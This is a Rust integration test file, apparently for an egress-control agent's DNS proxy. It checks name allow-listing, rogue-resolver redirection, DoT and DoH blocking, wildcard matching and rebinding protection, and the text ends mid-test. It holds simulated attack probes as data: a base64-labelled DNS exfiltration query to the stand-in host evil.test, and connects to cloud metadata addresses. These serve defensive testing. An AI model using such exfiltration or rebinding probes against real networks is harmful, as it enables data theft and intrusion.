//! DNS control (issue #3) on the real kernel: the workload's DNS goes to the agent's proxy,
//! which answers only names the policy allows, installs their addresses before the workload
//! sees the answer, and forwards only to the policy's resolver.
//!
//! Every test starts its own dnsmasq in the remote namespace (the upstream resolver, named in
//! the policy's `dns_policy.allowed_resolvers`), runs `egress-agent exec` around the probe as
//! uid nobody in the client namespace, and asserts what a user would check: the rcode and
//! addresses the workload got and from where, the errno of its connects, the bytes that did or
//! did not arrive, what the upstream server's query log shows, and the agent's JSON log and
//! metrics. Traffic only ever goes to addresses inside the test's namespaces: the addresses of
//! real providers used below (DoH, metadata) have no route from the client namespace, which
//! each such test checks first.
#![expect(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "test code: a failure is a test failure"
)]

use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use egress_tests::agent::AgentRun;
use egress_tests::dnsmasq::{Dnsmasq, DnsmasqConfig};
use egress_tests::netns::{Netns, NetnsHandle};
use egress_tests::policy::PolicyYaml;
use egress_tests::probe::{ProbeResult, errno_name, rcode};
use egress_tests::process::RunOutput;
use egress_tests::server::{Listener, SETTLE};
use egress_tests::testbed::Testbed;
use libc::EPERM;
use serde_json::Value;

const PROBE: &str = env!("CARGO_BIN_EXE_egress-probe");
/// The upstream resolver: dnsmasq on the remote end of the veth pair.
const UPSTREAM: &str = "198.18.0.2";
/// How long a positive check waits for bytes to arrive.
const WAIT: Duration = Duration::from_secs(3);

fn testbed() -> Option<Testbed> {
    Testbed::for_test(Path::new(PROBE))
}

fn ip(s: &str) -> IpAddr {
    s.parse().expect("IP literal")
}

fn sa(s: &str) -> SocketAddr {
    s.parse().expect("socket address literal")
}

/// dnsmasq on the upstream address, serving what `config` holds.
fn upstream(tb: &Testbed, config: DnsmasqConfig) -> Dnsmasq {
    config
        .listen(ip(UPSTREAM))
        .start(tb.remote())
        .expect("starting the upstream dnsmasq")
}

/// TCP listeners in the remote namespace on `addrs` (`ip:port`), each address added to the
/// remote end of the veth pair first (once, unless it is the veth's own).
fn remote_listeners<const N: usize>(tb: &Testbed, addrs: [&str; N]) -> [Listener; N] {
    let addrs = addrs.map(sa);
    let new: BTreeSet<IpAddr> = addrs
        .iter()
        .map(SocketAddr::ip)
        .filter(|a| *a != ip(UPSTREAM) && *a != ip("fd00:e9::2"))
        .collect();
    for a in new {
        tb.topo.add_remote_addr(a).expect("remote address");
    }
    addrs.map(|a| tb.listen_tcp(a).expect("listener"))
}

/// Runs the agent in the client namespace and checks it exited 0.
fn finished(tb: &Testbed, run: AgentRun) -> RunOutput {
    let out = run.run_in(tb.client()).expect("agent run");
    out.assert_exit(0);
    out
}

/// A policy whose DNS goes to the test's dnsmasq.
fn policy() -> PolicyYaml {
    PolicyYaml::new().allowed_resolvers(&[UPSTREAM])
}

fn agent(tb: &Testbed, policy: &PolicyYaml) -> AgentRun {
    tb.agent(policy).expect("agent command").json_log()
}

/// The agent's JSON log lines.
fn log(out: &RunOutput) -> Vec<Value> {
    out.stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .collect()
}

/// Log lines with `event == event`.
fn events(out: &RunOutput, event: &str) -> Vec<Value> {
    log(out)
        .into_iter()
        .filter(|v| v["event"] == event)
        .collect()
}

/// `egress_blocked` events with `reason`.
fn blocked(out: &RunOutput, reason: &str) -> Vec<Value> {
    events(out, "egress_blocked")
        .into_iter()
        .filter(|v| v["reason"] == reason)
        .collect()
}

/// The exact count of kernel verdicts with `reason` (the agent's `verdict count` lines, which
/// unlike the event log are never collapsed).
fn verdict_count(out: &RunOutput, reason: &str) -> u64 {
    log(out)
        .iter()
        .filter(|v| v["message"] == "verdict count" && v["reason"] == reason)
        .filter_map(|v| v["count"].as_u64())
        .sum()
}

/// The proxy's refusal lines for `name` (case-insensitive): a name the policy refuses is an
/// `egress_blocked` line from hook `dns_proxy`, other refusals `dns_refused` lines.
fn refused(out: &RunOutput, name: &str) -> Vec<Value> {
    log(out)
        .into_iter()
        .filter(|v| {
            let by_policy = v["event"] == "egress_blocked" && v["hook"] == "dns_proxy";
            let field = if by_policy { "dns.name" } else { "name" };
            (by_policy || v["event"] == "dns_refused")
                && v[field]
                    .as_str()
                    .is_some_and(|n| n.eq_ignore_ascii_case(name))
        })
        .collect()
}

/// Panics unless `op` got a reply with `rcode` and exactly the addresses `addrs`.
#[track_caller]
fn assert_answer<'a>(out: &'a RunOutput, op: &str, rcode: u8, addrs: &[&str]) -> &'a ProbeResult {
    let r = out.assert_ok(op);
    let want: Vec<IpAddr> = addrs.iter().map(|a| ip(a)).collect();
    assert_eq!(
        (r.rcode, r.addrs.as_deref()),
        (Some(rcode), Some(&want[..])),
        "`{op}`: (rcode, addresses)\n{}",
        out.describe()
    );
    r
}

#[track_caller]
fn assert_nxdomain<'a>(out: &'a RunOutput, op: &str) -> &'a ProbeResult {
    assert_answer(out, op, rcode::NXDOMAIN, &[])
}

/// Panics unless the workload saw `op`'s reply come from `from`.
#[track_caller]
fn assert_from(out: &RunOutput, op: &str, from: &str) {
    let r = out.assert_ok(op);
    assert_eq!(
        r.from,
        Some(sa(from)),
        "`{op}`: the reply's source as the workload saw it\n{}",
        out.describe()
    );
}

/// Panics if the upstream server was asked about `domain` or any name below it.
#[track_caller]
fn assert_not_forwarded(dns: &Dnsmasq, domain: &str, out: &RunOutput) {
    let asked = dns.queries_at_or_below(domain);
    assert!(
        asked.is_empty(),
        "the upstream resolver was asked about {domain}: {asked:?}\n{}",
        out.describe()
    );
}

/// Panics unless the upstream server was asked about `name` itself.
#[track_caller]
fn assert_forwarded(dns: &Dnsmasq, name: &str, out: &RunOutput) {
    assert!(
        !dns.queries_for(name).is_empty(),
        "the upstream resolver was never asked about {name}: {:?}\n{}",
        dns.queried(),
        out.describe()
    );
}

/// Asserts `listener` received exactly `expected` (waiting up to WAIT for it).
#[track_caller]
fn assert_arrived(listener: &Listener, expected: &[u8], out: &RunOutput) {
    let got = listener.wait_for(expected, WAIT);
    assert_eq!(
        String::from_utf8_lossy(&got),
        String::from_utf8_lossy(expected),
        "bytes at listener {}\n{}",
        listener.addr(),
        out.describe()
    );
}

/// Asserts none of `listeners` saw a connection or a byte (after letting stragglers land).
#[track_caller]
fn assert_nothing_arrived(listeners: &[&Listener], out: &RunOutput) {
    std::thread::sleep(SETTLE);
    for l in listeners {
        assert!(
            l.connections() == 0,
            "listener {} saw {} connection(s) with {:?}\n{}",
            l.addr(),
            l.connections(),
            String::from_utf8_lossy(&l.received()),
            out.describe()
        );
    }
}

/// Panics unless the client namespace has no way out: no default route and no route to
/// any of `outside`. Tests that point connects at real-world addresses check this first, so
/// that a failure of enforcement ends in ENETUNREACH, never in a packet on a real network.
#[track_caller]
fn assert_no_way_out(ns: &Netns, outside: &[&str]) {
    assert!(
        !ns.has_default_route().expect("reading routes"),
        "the client namespace must have no default route"
    );
    for a in outside {
        assert!(
            !ns.has_route_to(ip(a)),
            "the client namespace has a route to {a}"
        );
    }
}

/// Waits (bounded) until `listener` has accepted `n` connections; returns how many it has.
fn wait_connections(listener: &Listener, n: usize) -> usize {
    let deadline = Instant::now() + WAIT;
    while listener.connections() < n && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    listener.connections()
}

/// How many of `listener`'s connections carried exactly `payload`.
fn connections_with(listener: &Listener, payload: &[u8]) -> usize {
    listener
        .messages()
        .iter()
        .filter(|m| m.as_slice() == payload)
        .count()
}

// --- 1. No race ------------------------------------------------------------------------------

/// A workload that connects at once after each lookup always gets through: 350 lookups of
/// names never seen before, each answered with an address never allowed before (the
/// wildcard cannot be resolved in advance), each followed at once by a connection to that
/// address. Over UDP, TCP, an unconnected socket to a stub-resolver address on loopback, and
/// IPv6; the workload sees every reply come from the address it asked.
#[test]
fn an_allowed_name_resolves_and_connects_at_once_every_time() {
    let Some(tb) = testbed() else { return };
    for net in [
        "198.18.1.0/24",
        "198.18.2.0/24",
        "198.18.3.0/24",
        "fd00:e9:1::/64",
    ] {
        tb.topo.add_remote_net(net).expect("remote range");
    }
    let l4 = tb.listen_tcp(sa("0.0.0.0:8443")).expect("listener");
    let l6 = tb.listen_tcp(sa("[::]:8444")).expect("listener");
    let mut config = Dnsmasq::config();
    for i in 0..200 {
        config = config.record(
            &format!("u{i}.race.example.test"),
            ip(&format!("198.18.1.{}", i + 1)),
        );
    }
    for i in 0..50 {
        config = config
            .record(
                &format!("t{i}.race.example.test"),
                ip(&format!("198.18.2.{}", i + 1)),
            )
            .record(
                &format!("s{i}.race.example.test"),
                ip(&format!("198.18.3.{}", i + 1)),
            )
            .record(
                &format!("v{i}.race.example.test"),
                ip(&format!("fd00:e9:1::{:x}", i + 1)),
            );
    }
    let dns = upstream(&tb, config);
    let policy = policy().allow_wildcard("race.example.test", &[8443, 8444], &["tcp"]);
    let before = "connect tcp4 198.18.1.1 8443";
    let udp =
        "resolve udp4 198.18.0.2 u{i}.race.example.test A repeat 200 then-connect tcp4 8443 u";
    let tcp = "resolve tcp4 198.18.0.2 t{i}.race.example.test A repeat 50 then-connect tcp4 8443 t";
    let stub = "resolve udp4-sendto 127.0.0.53 s{i}.race.example.test A repeat 50 then-connect tcp4 8443 s";
    let v6 =
        "resolve udp6 fd00:e9::2 v{i}.race.example.test AAAA repeat 50 then-connect tcp6 8444 v";
    let never = "connect tcp4 198.18.1.250 8443";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .timeout(Duration::from_secs(120))
            .args([before, udp, tcp, stub, v6, never]),
    );
    out.assert_errno(before, EPERM);
    for (op, n, from, last) in [
        (udp, 200, "198.18.0.2:53", "198.18.1.200"),
        (tcp, 50, "198.18.0.2:53", "198.18.2.50"),
        (stub, 50, "127.0.0.53:53", "198.18.3.50"),
        (v6, 50, "[fd00:e9::2]:53", "fd00:e9:1::32"),
    ] {
        let r = assert_answer(&out, op, rcode::NOERROR, &[last]);
        assert_eq!(r.count, Some(n), "`{op}`\n{}", out.describe());
        assert_from(&out, op, from);
    }
    // An address in the same range that no answer named stays closed.
    out.assert_errno(never, EPERM);
    assert_eq!(wait_connections(&l4, 300), 300, "{}", out.describe());
    assert_eq!(wait_connections(&l6, 50), 50, "{}", out.describe());
    assert_eq!(
        (
            connections_with(&l4, b"u"),
            connections_with(&l4, b"t"),
            connections_with(&l4, b"s"),
            connections_with(&l6, b"v"),
        ),
        (200, 50, 50, 50)
    );
    let names: BTreeSet<String> = dns
        .queries_at_or_below("race.example.test")
        .into_iter()
        .map(|q| q.name)
        .collect();
    assert_eq!(names.len(), 350, "names the upstream resolver was asked");
    // The allowed resolver and a local stub are not unauthorized resolvers; the upstream's
    // IPv6 address is not in allowed_resolvers, so the fifty queries sent there are.
    let flagged = blocked(&out, "dns_unauthorized_resolver");
    assert!(
        !flagged.is_empty() && flagged.iter().all(|e| e["dst.ip"] == "fd00:e9::2"),
        "{flagged:#?}"
    );
    assert_eq!(verdict_count(&out, "dns_unauthorized_resolver"), 50);
}

// --- 2. Only allowed names are resolved -------------------------------------------------------

/// A name the policy does not allow gets NXDOMAIN from the proxy, over UDP, TCP and IPv6,
/// and never reaches the upstream server; neither do random subdomains of it (the DNS
/// exfiltration channel). An exact host allows that name only, in any case and with a
/// trailing dot; an allowed name's non-address query gets NOERROR with no records and is not
/// forwarded either. Each refusal is logged.
#[test]
fn a_name_the_policy_does_not_allow_gets_nxdomain_and_is_never_forwarded() {
    let Some(tb) = testbed() else { return };
    let [api, evil] = remote_listeners(&tb, ["198.18.0.10:8443", "198.18.0.11:8443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("api.example.test", ip("198.18.0.10"))
            .record("evil.test", ip("198.18.0.11")),
    );
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let udp = "resolve udp4 198.18.0.2 evil.test A";
    let tcp = "resolve tcp4 198.18.0.2 evil.test A";
    let v6 = "resolve udp6 fd00:e9::2 evil.test AAAA";
    let exfil = "resolve udp4 198.18.0.2 c2VjcmV0LXtpfQ-{i}.evil.test A repeat 100";
    let suffix_trick = "resolve udp4 198.18.0.2 api.example.test.evil.test A";
    let below_exact = "resolve udp4 198.18.0.2 x.api.example.test A";
    let txt = "resolve udp4 198.18.0.2 api.example.test TXT";
    let allowed = "resolve udp4 198.18.0.2 API.Example.Test. A then-connect tcp4 8443 allowed";
    let evil_addr = "connect tcp4 198.18.0.11 8443";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([
            udp,
            tcp,
            v6,
            exfil,
            suffix_trick,
            below_exact,
            txt,
            allowed,
            evil_addr,
        ]),
    );
    for op in [udp, tcp, v6, suffix_trick, below_exact] {
        assert_nxdomain(&out, op);
    }
    let r = assert_nxdomain(&out, exfil);
    assert_eq!(r.count, Some(100), "{}", out.describe());
    assert_answer(&out, txt, rcode::NOERROR, &[]);
    assert_answer(&out, allowed, rcode::NOERROR, &["198.18.0.10"]);
    out.assert_errno(evil_addr, EPERM);
    assert_arrived(&api, b"allowed", &out);
    assert_nothing_arrived(&[&evil], &out);
    assert_not_forwarded(&dns, "evil.test", &out);
    assert_not_forwarded(&dns, "x.api.example.test", &out);
    assert!(
        dns.queried().iter().all(|q| q.qtype != "TXT"),
        "a TXT query was forwarded: {:?}",
        dns.queried()
    );
    // The upstream log does work: the allowed name was asked for.
    assert_forwarded(&dns, "api.example.test", &out);
    let lines = refused(&out, "evil.test");
    assert!(
        !lines.is_empty(),
        "no refusal line for evil.test\n{}",
        out.stderr
    );
    // A refused name is a blocked attempt, logged like a refused connect.
    let l = &lines[0];
    assert_eq!(l["event"], "egress_blocked", "{l}");
    assert_eq!(l["level"], "WARN", "{l}");
    assert_eq!(l["reason"], "dns_name_not_allowed", "{l}");
    assert_eq!(l["result"], "not_allowed", "{l}");
    assert_eq!(l["dns.qtype"], "A", "{l}");
    assert!(l["policy"].as_str().is_some_and(|p| !p.is_empty()), "{l}");
}

/// `--dns-refusal refused`: the same refusal as REFUSED instead of NXDOMAIN, still never
/// forwarded.
#[test]
fn the_refusal_can_be_refused_instead_of_nxdomain() {
    let Some(tb) = testbed() else { return };
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("api.example.test", ip("198.18.0.10"))
            .record("evil.test", ip("198.18.0.11")),
    );
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let op = "resolve udp4 198.18.0.2 evil.test A";
    let out = finished(
        &tb,
        agent(&tb, &policy)
            .agent_arg("--dns-refusal")
            .agent_arg("refused")
            .arg(op),
    );
    assert_answer(&out, op, rcode::REFUSED, &[]);
    assert_not_forwarded(&dns, "evil.test", &out);
}

// --- 3. Resolver control ------------------------------------------------------------------

/// A query sent straight to a resolver the policy does not name is answered by the proxy,
/// never by that resolver: the rogue server (serving other addresses) receives nothing,
/// the workload gets the allowed upstream's address (or NXDOMAIN for a name the policy does
/// not allow), and the reply still appears to come from the address it asked. The control
/// run without the agent shows the rogue server does answer.
#[test]
fn a_query_to_another_resolver_is_answered_by_the_proxy_not_by_that_resolver() {
    let Some(tb) = testbed() else { return };
    for a in ["198.18.0.53", "fd00:e9::53"] {
        tb.topo.add_remote_addr(ip(a)).expect("address");
    }
    let [api, rogue_target] = remote_listeners(&tb, ["198.18.0.10:8443", "198.18.0.66:8443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config().record("api.example.test", ip("198.18.0.10")),
    );
    let rogue = Dnsmasq::config()
        .listen(ip("198.18.0.53"))
        .listen(ip("fd00:e9::53"))
        .record("api.example.test", ip("198.18.0.66"))
        .record("evil.test", ip("198.18.0.67"))
        .start(tb.remote())
        .expect("rogue dnsmasq");
    let policy = policy().allow_host("api.example.test", &[8443], &["tcp"]);
    let udp = "resolve udp4 198.18.0.53 api.example.test A then-connect tcp4 8443 via-rogue";
    let sendto = "resolve udp4-sendto 198.18.0.53 api.example.test A";
    let tcp = "resolve tcp4 198.18.0.53 api.example.test A";
    let v6 = "resolve udp6 fd00:e9::53 api.example.test A";
    let evil = "resolve udp4 198.18.0.53 evil.test A";
    let many = "dns connect udp4 198.18.0.53 53 api.example.test 20";
    let rogue_addr = "connect tcp4 198.18.0.66 8443";
    let allowed = "resolve udp4 198.18.0.2 api.example.test A";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([udp, sendto, tcp, v6, evil, many, rogue_addr, allowed]),
    );
    for op in [udp, sendto, tcp, v6] {
        assert_answer(&out, op, rcode::NOERROR, &["198.18.0.10"]);
    }
    for op in [udp, sendto, tcp, evil] {
        assert_from(&out, op, "198.18.0.53:53");
    }
    assert_from(&out, v6, "[fd00:e9::53]:53");
    assert_nxdomain(&out, evil);
    assert_eq!(out.assert_ok(many).count, Some(20), "{}", out.describe());
    out.assert_errno(rogue_addr, EPERM);
    assert_arrived(&api, b"via-rogue", &out);
    assert_nothing_arrived(&[&rogue_target], &out);
    assert!(
        rogue.queries().is_empty(),
        "the rogue resolver received queries: {:?}\n{}",
        rogue.queries(),
        out.describe()
    );
    assert_forwarded(&dns, "api.example.test", &out);
    assert_not_forwarded(&dns, "evil.test", &out);
    assert_answer(&out, allowed, rcode::NOERROR, &["198.18.0.10"]);

    // Each query to the rogue resolver is a blocked attempt: one event naming the resolver,
    // the name and the process, and an exact kernel count. The one to the allowed resolver
    // is not flagged.
    let attempts = blocked(&out, "dns_unauthorized_resolver");
    let pid = out.result(udp).and_then(|r| r.pid);
    let has = |resolver: &str, name: &str, protocol: &str| {
        attempts.iter().any(|e| {
            e["dst.ip"] == resolver
                && e["dst.port"] == 53
                && e["dns.name"] == name
                && e["protocol"] == protocol
                && e["comm"] == "egress-probe"
                && (pid.is_none() || e["pid"].as_u64() == pid.map(u64::from))
        })
    };
    for (resolver, name, protocol) in [
        ("198.18.0.53", "api.example.test", "udp"),
        ("198.18.0.53", "api.example.test", "tcp"),
        ("fd00:e9::53", "api.example.test", "udp"),
        ("198.18.0.53", "evil.test", "udp"),
    ] {
        assert!(
            has(resolver, name, protocol),
            "no unauthorized-resolver event for {name} via {resolver} over {protocol}: {attempts:#?}\n{}",
            out.describe()
        );
    }
    assert!(
        attempts.iter().all(|e| e["dst.ip"] != UPSTREAM),
        "a query to the allowed resolver was flagged: {attempts:#?}"
    );
    // udp, sendto, tcp, v6, evil and the connect of `many`: six redirects.
    assert!(
        verdict_count(&out, "dns_unauthorized_resolver") >= 6,
        "{}",
        out.describe()
    );

    // Control: without the agent the same query reaches the rogue server and its answer.
    let control = "resolve udp4 198.18.0.53 api.example.test A";
    let bare = tb.run_probe(&[control]).expect("probe run");
    assert_answer(&bare, control, rcode::NOERROR, &["198.18.0.66"]);
    assert!(
        !rogue.queries().is_empty(),
        "the control query did not reach the rogue server"
    );
}

// --- 4. DoT -------------------------------------------------------------------------------

/// `block_dot`: TCP and UDP to port 853 are refused to every destination, even one an
/// allow rule names with that port (by address or by name); other ports of the same host
/// still work. Without `block_dot` the same rule lets DoT through.
#[test]
fn dns_over_tls_is_blocked_to_every_host() {
    let Some(tb) = testbed() else { return };
    let dot_tcp = tb.listen_tcp(sa("198.18.0.2:853")).expect("listener");
    let dot_udp = tb.listen_udp(sa("198.18.0.2:853")).expect("listener");
    let dot_tcp6 = tb.listen_tcp(sa("[fd00:e9::2]:853")).expect("listener");
    let other = tb.listen_tcp(sa("198.18.0.2:8443")).expect("listener");
    let _dns = upstream(
        &tb,
        Dnsmasq::config().record("dot.example.test", ip("198.18.0.2")),
    );
    let rules = |p: PolicyYaml| {
        p.allow_host("198.18.0.2", &[853, 8443], &["tcp", "udp"])
            .allow_host("fd00:e9::2", &[853], &["tcp", "udp"])
            .allow_host("dot.example.test", &[853], &["tcp"])
    };
    let ops = [
        "connect tcp4 198.18.0.2 853",
        "send tcp4 198.18.0.2 853 dot-tcp",
        "sendto udp4 198.18.0.2 853 dot-udp",
        "udpconnect-send udp4 198.18.0.2 853 dot-udp-connected",
        "send tcp6 fd00:e9::2 853 dot-tcp6",
        "sendto udp6 ::ffff:198.18.0.2 853 dot-mapped",
        "resolve udp4 198.18.0.2 dot.example.test A then-connect tcp4 853 dot-by-name",
    ];
    let control = "send tcp4 198.18.0.2 8443 not-dot";
    let out = finished(
        &tb,
        agent(&tb, &rules(policy().block_dot(true)))
            .args(ops)
            .arg(control),
    );
    for op in ops {
        out.assert_errno(op, EPERM);
    }
    // The name resolved; the connection to its address on 853 was what failed.
    let by_name = out.result(ops[6]).unwrap();
    assert_eq!(
        by_name.addrs.as_deref(),
        Some(&[ip("198.18.0.2")][..]),
        "{}",
        out.describe()
    );
    out.assert_ok(control);
    assert_arrived(&other, b"not-dot", &out);
    assert_nothing_arrived(&[&dot_tcp, &dot_udp, &dot_tcp6], &out);
    // The UDP connect sends nothing: it is refused as `udp_connect_refused`, with the DoT
    // block as its cause; every other attempt is a dns_over_tls_blocked verdict.
    assert_eq!(
        verdict_count(&out, "dns_over_tls_blocked"),
        ops.len() as u64 - 1,
        "one dns_over_tls_blocked verdict per attempt but the UDP connect\n{}",
        out.stderr
    );
    assert_eq!(verdict_count(&out, "udp_connect_refused"), 1);
    let no_data = events(&out, "egress_refused_no_data");
    assert!(
        no_data.iter().any(|e| e["reason"] == "udp_connect_refused"
            && e["cause"] == "dns_over_tls_blocked"
            && e["carries_data"] == false
            && e["dst.port"] == 853),
        "{no_data:#?}"
    );
    let events = blocked(&out, "dns_over_tls_blocked");
    for hook in ["connect4", "sendmsg4", "connect6"] {
        assert!(
            events
                .iter()
                .any(|e| e["hook"] == hook && e["dst.port"] == 853),
            "no dns_over_tls_blocked event from {hook}: {events:#?}\n{}",
            out.stderr
        );
    }

    // Control: the same rules without block_dot let DoT through.
    let allowed = "send tcp4 198.18.0.2 853 dot-allowed";
    let out = finished(&tb, agent(&tb, &rules(policy())).arg(allowed));
    out.assert_ok(allowed);
    assert_arrived(&dot_tcp, b"dot-allowed", &out);
}

// --- 5. DoH -------------------------------------------------------------------------------

/// `block_doh`: a DoH provider's name is refused by the proxy although a wildcard covers it
/// (and never forwarded), an answer that points an allowed name at a provider address loses
/// that address, and the provider's addresses are denied even where an allow rule's range
/// covers them. The addresses are real ones, but the client namespace has no route to them:
/// had enforcement failed, the connect would end in ENETUNREACH without a packet sent.
#[test]
fn doh_providers_are_blocked_by_name_and_by_address_even_under_a_wildcard() {
    let Some(tb) = testbed() else { return };
    let doh = egress_agent::dns::doh_list();
    assert!(doh.provider_for_name("dns.quad9.net").is_some());
    assert!(doh.provider_for_name("www.quad9.net").is_none());
    for a in ["9.9.9.9", "2620:fe::fe"] {
        assert!(
            doh.provider_for_address(ip(a)).is_some(),
            "{a} is not listed"
        );
    }
    assert_no_way_out(tb.client(), &["9.9.9.9", "2620:fe::fe"]);
    let [doh_host, www] = remote_listeners(&tb, ["198.18.0.20:443", "198.18.0.21:443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("dns.quad9.net", ip("198.18.0.20"))
            .record("www.quad9.net", ip("198.18.0.21"))
            .record("alias.quad9.net", ip("9.9.9.9")),
    );
    let policy = policy()
        .allow_wildcard("quad9.net", &[443], &["tcp"])
        .allow_cidr("9.9.9.0/24", &[443], &["tcp"])
        .allow_cidr("2620:fe::/48", &[443], &["tcp"])
        .block_doh(true);
    let by_name = "resolve udp4 198.18.0.2 dns.quad9.net A";
    let by_name_tcp = "resolve tcp4 198.18.0.2 DNS.Quad9.net. A";
    let doh_addr = "connect tcp4 198.18.0.20 443";
    let not_doh = "resolve udp4 198.18.0.2 www.quad9.net A then-connect tcp4 443 www";
    let answer_with_doh_addr = "resolve udp4 198.18.0.2 alias.quad9.net A";
    let addr4 = "connect tcp4 9.9.9.9 443";
    let addr6 = "connect tcp6 2620:fe::fe 443";
    let mapped = "connect tcp6 ::ffff:9.9.9.9 443";
    let out = finished(
        &tb,
        agent(&tb, &policy).args([
            by_name,
            by_name_tcp,
            doh_addr,
            not_doh,
            answer_with_doh_addr,
            addr4,
            addr6,
            mapped,
        ]),
    );
    assert_nxdomain(&out, by_name);
    assert_nxdomain(&out, by_name_tcp);
    out.assert_errno(doh_addr, EPERM);
    assert_answer(&out, not_doh, rcode::NOERROR, &["198.18.0.21"]);
    assert_answer(&out, answer_with_doh_addr, rcode::NOERROR, &[]);
    for op in [addr4, addr6, mapped] {
        out.assert_errno(op, EPERM);
    }
    assert_arrived(&www, b"www", &out);
    assert_nothing_arrived(&[&doh_host], &out);
    assert_not_forwarded(&dns, "dns.quad9.net", &out);
    assert_forwarded(&dns, "www.quad9.net", &out);
    let lines = refused(&out, "dns.quad9.net");
    assert!(
        lines.iter().any(|l| l["result"] == "doh_provider"),
        "no dns_refused line with result doh_provider: {lines:?}\n{}",
        out.stderr
    );
    let events = blocked(&out, "doh_provider_blocked");
    for dst in ["9.9.9.9", "2620:fe::fe"] {
        assert!(
            events
                .iter()
                .any(|e| e["dst.ip"] == dst && e["dst.port"] == 443),
            "no doh_provider_blocked event for {dst}: {events:#?}\n{}",
            out.stderr
        );
    }
    assert_eq!(
        verdict_count(&out, "doh_provider_blocked"),
        3,
        "{}",
        out.stderr
    );
}

// --- 6. Wildcards -------------------------------------------------------------------------

/// `*.example.test` matches any name below example.test at any depth, case-insensitively and
/// with a trailing dot, and never example.test itself, example.test.evil.test or
/// notexample.test; denied hosts (exact and wildcard) win over it. Nothing refused reaches
/// the upstream server, and only the answered address opens.
#[test]
fn a_wildcard_allows_names_below_it_and_nothing_else() {
    let Some(tb) = testbed() else { return };
    let [deep, others @ ..] = remote_listeners(
        &tb,
        [
            "198.18.0.10:8443",
            "198.18.0.11:8443",
            "198.18.0.12:8443",
            "198.18.0.13:8443",
            "198.18.0.14:8443",
        ],
    );
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .record("example.test", ip("198.18.0.12"))
            .record("a.b.example.test", ip("198.18.0.10"))
            .record("evil.test", ip("198.18.0.11"))
            .record("notexample.test", ip("198.18.0.13"))
            .record("secret.example.test", ip("198.18.0.14"))
            .record("internal.example.test", ip("198.18.0.14")),
    );
    let policy = policy()
        .allow_wildcard("example.test", &[8443], &["tcp"])
        .deny_host("secret.example.test")
        .deny_host("*.internal.example.test");
    let before = "connect tcp4 198.18.0.10 8443";
    let deep_name = "resolve udp4 198.18.0.2 a.b.example.test A then-connect tcp4 8443 deep";
    let deeper = "resolve udp4 198.18.0.2 X.A.B.Example.TEST. A";
    let apex = "resolve udp4 198.18.0.2 example.test A";
    let evil = "resolve udp4 198.18.0.2 example.test.evil.test A";
    let no_dot = "resolve udp4 198.18.0.2 notexample.test A";
    let denied = "resolve udp4 198.18.0.2 secret.example.test A";
    let denied_wild = "resolve tcp4 198.18.0.2 db.internal.example.test A";
    let ops = [
        before,
        deep_name,
        deeper,
        apex,
        evil,
        no_dot,
        denied,
        denied_wild,
    ];
    let mut closed = vec![];
    for a in ["198.18.0.11", "198.18.0.12", "198.18.0.13", "198.18.0.14"] {
        closed.push(format!("connect tcp4 {a} 8443"));
    }
    let out = finished(&tb, agent(&tb, &policy).args(ops).args(&closed));
    out.assert_errno(before, EPERM);
    assert_answer(&out, deep_name, rcode::NOERROR, &["198.18.0.10"]);
    assert_answer(&out, deeper, rcode::NOERROR, &["198.18.0.10"]);
    for op in [apex, evil, no_dot, denied, denied_wild] {
        assert_nxdomain(&out, op);
    }
    for op in &closed {
        out.assert_errno(op, EPERM);
    }
    assert_arrived(&deep, b"deep", &out);
    assert_nothing_arrived(&others.iter().collect::<Vec<_>>(), &out);
    assert_forwarded(&dns, "a.b.example.test", &out);
    // secret.example.test is left out: the agent itself resolves denied exact hosts (to deny
    // their addresses), so the upstream log holds its own queries for that name; the proxy's
    // refusal shows in the dns_refused line below.
    for name in ["evil.test", "notexample.test", "internal.example.test"] {
        assert_not_forwarded(&dns, name, &out);
    }
    assert!(
        dns.queries_for("example.test").is_empty(),
        "the wildcard's apex was forwarded: {:?}",
        dns.queried()
    );
    for (name, result) in [
        ("example.test", "not_allowed"),
        ("secret.example.test", "denied"),
        ("db.internal.example.test", "denied"),
    ] {
        let lines = refused(&out, name);
        assert!(
            lines.iter().any(|l| l["result"] == result),
            "no dns_refused line for {name} with result {result}: {lines:?}\n{}",
            out.stderr
        );
    }
}

// --- 7. Rebinding -------------------------------------------------------------------------

/// An allowed name answered with a metadata or link-local address (directly, among other
/// addresses, or at the end of a CNAME chain), or with an address in one of the policy's
/// denied ranges, loses that address: the workload never sees it, a connect to it gets
/// EPERM, and the agent logs it. The other addresses of the same answer still work.
#[test]
fn an_answer_pointing_into_a_denied_range_is_not_installed() {
    let Some(tb) = testbed() else { return };
    assert_no_way_out(tb.client(), &["169.254.169.254", "fd00:ec2::254"]);
    let [good, denied_range] = remote_listeners(&tb, ["198.18.0.10:8443", "198.18.9.9:8443"]);
    let dns = upstream(
        &tb,
        Dnsmasq::config()
            .host("meta.example.test", ip("169.254.169.254"))
            .host("mixed.example.test", ip("198.18.0.10"))
            .host("mixed.example.test", ip("169.254.169.254"))
            .host("target.example.test", ip("169.254.169.254"))
            .cname("alias.example.test", "target.example.test")
            .host("inner.example.test", ip("198.18.9.9"))
            .record("meta6.example.test", ip("fd00:ec2::254")),
    );
    let policy = policy()
        .allow_wildcard("example.test", &[80, 8443], &["tcp"])
        .deny_cidr("198.18.9.0/24");
    let meta = "resolve udp4 198.18.0.2 meta.example.test A";
    let meta_connect = "connect tcp4 169.254.169.254 80";
    let mixed = "resolve udp4 198.18.0.2 mixed.example.test A then-connect tcp4 8443 mixed";
    let alias = "resolve udp4 198.18.0.2 alias.example.test A";
    let meta6 = "resolve udp6 fd00:e9::2 meta6.example.test AAAA";
    let meta6_connect = "connect tcp6 fd00:ec2::254 80";
